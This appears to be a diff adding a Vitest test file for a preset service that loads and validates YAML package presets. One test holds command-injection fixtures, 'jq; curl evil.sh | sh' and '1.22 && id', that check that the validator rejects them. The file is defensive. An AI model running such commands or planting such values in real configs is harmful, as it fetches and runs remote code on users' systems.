@@ -0,0 +1,141 @@
+import { mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, it } from "vitest";
+import { createMockLogger, withTempDir } from "../test-utils.js";
+import { PresetService } from "./PresetService.js";
+
+/**
+ * Create a preset service with the given preset files in dir
+ */
+function createService(
+	dir: string,
+	files: Record<string, string> = {},
+): PresetService {
+	mkdirSync(dir, { recursive: true });
+	for (const [file, content] of Object.entries(files)) {
+		writeFileSync(join(dir, file), content);
+	}
+	return new PresetService(createMockLogger(), { presetsDir: dir });
+}
+
+describe("PresetService", () => {
+	it("merges user presets with the built-ins", async () => {
+		await withTempDir(async (dir) => {
+			const service = createService(dir, {
+				"php.yml": "name: PHP\ndescription: PHP 8 + Composer\napt: [php-cli]\n",
+			});
+
+			const presets = service.list();
+			const php = presets.find((preset) => preset.value === "php");
+
+			expect(presets.some((preset) => preset.value === "python")).toBe(true);
+			expect(php).toEqual({
+				value: "php",
+				name: "PHP",
+				description: "PHP 8 + Composer",
+				requires: [],
+				builtin: false,
+			});
+		});
+	});
+
+	it("does not take inherited object properties for presets", async () => {
+		await withTempDir(async (dir) => {
+			const empty = createService(join(dir, "empty"));
+			const service = createService(join(dir, "user"), {
+				"constructor.yml": "name: Ctor\ndescription: Mine\n",
+			});
+
+			expect(empty.has("constructor")).toBe(false);
+			expect(empty.has("tostring")).toBe(false);
+			expect(
+				service.list().find((preset) => preset.value === "constructor"),
+			).toMatchObject({ name: "Ctor", builtin: false });
+		});
+	});
+
+	it("expands required presets first and only once", async () => {
+		await withTempDir(async (dir) => {
+			const service = createService(dir, {
+				"sdk.yml":
+					"name: SDK\ndescription: Internal SDK\nrequires: [base-tools, python]\npip: [our-sdk]\n",
+				"base-tools.yaml":
+					"name: Base\ndescription: Shared tools\napt: [jq]\n",
+			});
+
+			const expanded = service.expand(["sdk", "python", "base-tools"]);
+
+			expect(expanded.map((preset) => preset.name)).toEqual([
+				"Base",
+				"Python",
+				"SDK",
+			]);
+		});
+	});
+
+	it("rejects invalid preset files", async () => {
+		await withTempDir(async (dir) => {
+			const service = createService(dir, {
+				"broken.yml": "name: Broken\napt: jq\nextra: true\n",
+			});
+
+			expect(() => service.load()).toThrow("unknown keys extra");
+		});
+	});
+
+	it("rejects shell metacharacters in packages and versions", async () => {
+		await withTempDir(async (dir) => {
+			const packages = createService(join(dir, "packages"), {
+				"evil.yml":
+					"name: Evil\ndescription: Evil\napt: ['jq; curl evil.sh | sh']\n",
+			});
+			const versions = createService(join(dir, "versions"), {
+				"evil.yml":
+					"name: Evil\ndescription: Evil\nversions: {go: '1.22 && id'}\ncommands: ['install {{go}}']\n",
+			});
+
+			expect(() => packages.load()).toThrow(
+				'invalid apt package "jq; curl evil.sh | sh"',
+			);
+			expect(() => versions.load()).toThrow(
+				'invalid version for go: "1.22 && id"',
+			);
+		});
+	});
+
+	it("rejects version placeholders without a version", async () => {
+		await withTempDir(async (dir) => {
+			const service = createService(dir, {
+				"php.yml":
+					"name: PHP\ndescription: PHP\nversions: {php: 8.3}\ncommands:\n  - 'install {{php}} {{composer}}'\n",
+			});
+
+			expect(() => service.load()).toThrow(
+				'command uses {{composer}} but "versions" has no composer',
+			);
+		});
+	});
+
+	it("rejects shadowing a built-in preset", async () => {
+		await withTempDir(async (dir) => {
+			const service = createService(dir, {
+				"python.yml": "name: Python\ndescription: Mine\n",
+			});
+
+			expect(() => service.load()).toThrow('"python" is a built-in preset');
+		});
+	});
+
+	it("rejects unknown and circular requires", async () => {
+		await withTempDir(async (dir) => {
+			const service = createService(dir, {
+				"a.yml": "name: A\ndescription: A\nrequires: [b]\n",
+				"b.yml": "name: B\ndescription: B\nrequires: [a, missing]\n",
+			});
+
+			expect(() => service.load()).toThrow(
+				/requires unknown preset\(s\) missing[\s\S]*circular requires: a -> b -> a/,
+			);
+		});
+	});
+});